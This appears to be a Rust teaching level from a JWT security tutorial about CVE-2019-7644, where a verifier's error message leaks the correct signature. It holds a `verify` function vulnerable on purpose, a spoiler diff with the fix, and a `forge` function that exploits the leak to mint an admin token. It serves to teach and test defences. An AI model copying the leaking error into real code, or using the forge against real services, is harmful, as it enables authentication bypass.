//! # An error that helps too much
//!
//! A good error says what was found and what was expected. This one does, too.
//! But the sender decides for what a tag is expected, and a tag that belongs to
//! a payload is a signature.
//!
//! **Who:** Auth0-WCF-Service-JWT, until 2019: the right signature stood in the
//! exception, and many services show those.
//!
//! **The way in:** send your payload with any signature. Read the right one in
//! the error, and send it again.
//!
//! **Closed by** what check 9 keeps to itself. Our errors never hold the right
//! tag, and neither does their `Debug`.

use crate::tutorial::*;
use jwt_by_hand::base64url;

pub fn verify(token: &str, secret: &str, now: u64) -> Verdict {
    let [_, payload, signature] = three_parts(token)?;
    let right = hmac(secret.as_bytes(), signing_input(token).as_bytes());
    if check_signature(token, secret).is_err() {
        let right = base64url::encode(right);
        let error = format!("found signature {signature}, expected {right}");
        return Err(error);
    }

    let claims = read_json(payload)?;
    check_time(&claims, now)?;
    Ok(claims)
}

// ---- Spoilers: the line that closes the hole, and the way in ----
// -         let right = base64url::encode(right);
// +         let right = format!("another of {} bytes", right.len());

use crate::level::{Attacker, Case, Hole, USUAL};

pub const HOLE: Hole = Hole {
    cases: &[Case {
        name: "CVE-2019-7644",
        url: "https://github.com/advisories/GHSA-qpvx-gpqm-g98j",
        date: "2019-04-18",
        library: "Auth0-WCF-Service-JWT",
        versions: "before 1.0.4",
        wrong: "the error message holds the signature that was expected",
    }],
    ..USUAL
};

pub fn forge(attacker: &Attacker) -> String {
    let unsigned = format!("{}.{}", usual_header(), as_admin(attacker.token));
    let wrong = format!("{unsigned}.{}", "A".repeat(43));
    let error = attacker.send(&wrong).verdict.err().unwrap_or_default();
    match error.rsplit(' ').next() {
        Some(right) if right.len() == 43 => format!("{unsigned}.{right}"),
        _ => wrong,
    }
}
